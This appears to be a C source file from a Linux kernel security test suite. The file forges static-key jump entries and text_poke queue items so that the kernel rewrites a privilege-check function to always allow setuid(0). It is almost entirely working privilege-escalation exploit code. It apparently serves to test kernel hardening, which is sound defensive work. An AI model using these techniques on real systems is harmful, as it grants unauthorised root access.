// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of functions that patch text: they believe ordinary data about
 * what is to be patched. Here the first lines of a function that decides who
 * may become root become a jump to code that says yes.
 */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "patching.h"

#ifdef __x86_64__
#define KEY_ENTRIES		8
#define LINKED			2UL	/* a list of modules */
#define SCRATCH			"dump_stack_arch_desc_str"	/* near text, and long enough */
#define SCRATCH_USED		64	/* by the name of a machine */
#define SCAN			65536
#define PATIENCE		1000	/* times 10 ms */

struct static_key_mod {
	uint64_t next, entries, module;
};

/* Whichever word is its table and whichever its length: the end is far away. */
#define MODULE_WORD		0xfffffff0f0000000UL

static const unsigned char nop[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
/* mov $1,%eax; ret */
static const unsigned char yes[] = { 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3 };

static uint64_t find_bytes(uint64_t from, uint64_t end, const void *bytes, size_t len)
{
	unsigned char page[PAGE_SIZE], *found;

	for (; from < end; from += PAGE_SIZE - len) {
		if (kread(from, page, sizeof(page)))
			return 0;
		found = memmem(page, sizeof(page), bytes, len);
		if (found)
			return from + (found - page);
	}
	return 0;
}

bool is_jump(uint64_t code)
{
	unsigned char byte = 0;

	kread(code, &byte, sizeof(byte));
	return byte == 0xeb || byte == 0xe9;
}

static bool forge_module(struct kernel_page *module)
{
	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
	size_t i;

	if (!kernel_page(module))
		return false;
	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
		words[i] = MODULE_WORD;
	return !kwrite(module->addr, words, sizeof(words));
}

/* Ours first, then the kernel's own places. */
static uint64_t forge_list(uint64_t entries, uint64_t own)
{
	struct static_key_mod list[2] = { { .entries = entries }, { .entries = own } };
	struct kernel_page page;

	if (!forge_module(&page))
		return 0;
	list[0].module = page.addr;
	if (!kernel_page(&page))
		return 0;
	list[0].next = page.addr + sizeof(list[0]);
	return kwrite(page.addr, list, sizeof(list)) ? 0 : page.addr;
}

static struct jump_entry make_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
{
	return (struct jump_entry) {
		.code = code - at,
		.target = target - at - sizeof(int),
		.key = key - at - 2 * sizeof(int),
	};
}

uint64_t room_near_text(void)
{
	uint64_t room = ksymbol(SCRATCH);

	return room ? room + SCRATCH_USED : 0;
}

int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
{
	struct jump_entry entry = make_entry(at, code, target, key);

	return kwrite(at, &entry, sizeof(entry));
}

void clear_entry(uint64_t at)
{
	const struct jump_entry none = { 0 };

	kwrite(at, &none, sizeof(none));
}

uint64_t entry_code(uint64_t at)
{
	struct jump_entry entry;

	return kread(at, &entry, sizeof(entry)) ? 0 : at + entry.code;
}

static bool wait_for_text(uint64_t code, bool patched)
{
	unsigned char now[sizeof(nop)];
	int i;

	for (i = 0; i < PATIENCE; i++) {
		kread(code, now, sizeof(now));
		if (patched == !!memcmp(now, nop, sizeof(nop)) && now[0] != 0xcc)
			return true;
		usleep(10000);
	}
	return false;
}

int switch_on(void)
{
	int fd = socket(AF_NETLINK, SOCK_RAW, 0), on = 1;

	if (fd >= 0 && !setsockopt(fd, SOL_SOCKET, SO_TIMESTAMP, &on, sizeof(on)))
		return fd;
	return -1;
}

void switch_over(void)
{
	static int fd = -1;

	if (fd < 0) {
		fd = switch_on();
		return;
	}
	close(fd);
	fd = -1;
}

/* undo is to have the kernel put the text back when the key is off again. */
static enum outcome patch_by_key(uint64_t code, int (*undo)(uint64_t code))
{
	int fd = switch_on(), err;
	bool patched = fd >= 0 && wait_for_text(code, true);

	err = !is_root_for_the_asking();
	if (patched && undo)
		undo(code);
	close(fd);
	if (!wait_for_text(code, false))
		return broken("the text was not put back");
	if (!patched || err)
		return lost("the kernel did not patch its text");
	return won("the kernel patched its own text: setuid(0) by uid=%d is let through", getuid());
}

/* The place, if it is one of the function's first. */
uint64_t find_code(void)
{
	uint64_t code = find_bytes(text_address(), text_address() + 1, nop, sizeof(nop));

	return code - text_address() > sizeof(yes) ? 0 : code;
}

uint64_t find_target(void)
{
	return find_bytes(ksymbol("_stext"), ksymbol("_etext"), yes, sizeof(yes));
}

/* A static key knows the places that it switches. Its list gets one more. */
enum outcome jump_label(void)
{
	uint64_t code = find_code(), target = find_target();
	uint64_t key = ksymbol(KEY), at = room_near_text(), old, list;
	enum outcome outcome;

	if (!key || kread64(key) || !at || !code || !target)
		return broken("no static key, no room, or no place that can be patched");
	old = kread64(key + KEY_ENTRIES);
	list = forge_list(at, old & ~3UL);
	if (!list || write_entry(at, code, target, key))
		return broken("no room for a list");
	if (kwrite64(key + KEY_ENTRIES, list | LINKED | (old & 1)))
		return lost("the key's list was not to be changed");
	outcome = patch_by_key(code, NULL);
	kwrite64(key + KEY_ENTRIES, old);
	clear_entry(at);
	return outcome;
}

/* The kernel's own list of places, in read-only memory; 0 if it is not known. */
uint64_t patched_entry(void)
{
	return kread64(ksymbol(KEY) + KEY_ENTRIES) & ~3UL;
}

/* The first of the key's own places is another one for a while. */
enum outcome patch_by_own_entry(bool (*store)(uint64_t addr, void *data, size_t len))
{
	uint64_t at = patched_entry(), code = find_code(), target = find_target();
	struct jump_entry old, entry;
	enum outcome outcome;

	if (kread64(ksymbol(KEY)) || !code || !target || kread(at, &old, sizeof(old)))
		return broken("no static key, or no place that can be patched");
	entry = make_entry(at, code, target, ksymbol(KEY));
	if (!store(at, &entry, sizeof(entry)))
		return broken("no way to write there");
	if (entry_code(at) != code)
		return lost("the kernel's list of places is as it was");
	outcome = patch_by_key(code, NULL);
	store(at, &old, sizeof(old));
	return outcome;
}

#define JUMP		0xe9
#define QUEUE_LENGTH	4080	/* where it is, behind a queue that is protected */

uint64_t queued_patches(uint64_t *nr)
{
	uint64_t plain = ksymbol("tp_vec"), queue = plain ?: ksymbol("kpkeys_patch_queue");

	*nr = plain ? ksymbol("tp_vec_nr") : queue + QUEUE_LENGTH;
	return queue;
}

static struct text_poke_loc make_patch(uint64_t code, const unsigned char *text, int disp)
{
	struct text_poke_loc loc = {
		.rel_addr = code - ksymbol("_stext"),
		.disp = disp,
		.len = sizeof(nop),
		.opcode = JUMP,
	};

	memcpy(loc.text, text, sizeof(loc.text));
	return loc;
}

struct text_poke_loc make_nop(uint64_t code)
{
	return make_patch(code, nop, 0);
}

struct text_poke_loc make_jump(uint64_t code, uint64_t target)
{
	unsigned char jump[sizeof(nop)] = { JUMP };
	int disp = target - code - sizeof(jump);

	memcpy(jump + 1, &disp, sizeof(disp));
	return make_patch(code, jump, disp);
}

static int queue_patch(struct text_poke_loc loc)
{
	uint64_t nr, queue = queued_patches(&nr);
	const int one = 1;

	return kwrite(queue, &loc, sizeof(loc)) ?: kwrite(nr, &one, sizeof(one));
}

static int queue_nop(uint64_t code)
{
	return queue_patch(make_nop(code));
}

/* The kernel patches places of its own next, and this one with them. */
enum outcome patch_queue(void)
{
	uint64_t code = find_code(), target = find_target();
	int err;

	if (!code || !target || kread64(ksymbol(KEY)))
		return broken("no static key, or no place that can be patched");
	err = queue_patch(make_jump(code, target));
	if (err)
		return lost("the queue was not to be changed: %d", err);
	return patch_by_key(code, queue_nop);
}
#else
enum outcome jump_label(void)
{
	return skipped("what the kernel writes there cannot be undone on this architecture");
}

enum outcome patch_queue(void)
{
	return skipped("this kernel has no queue of patches");
}
#endif
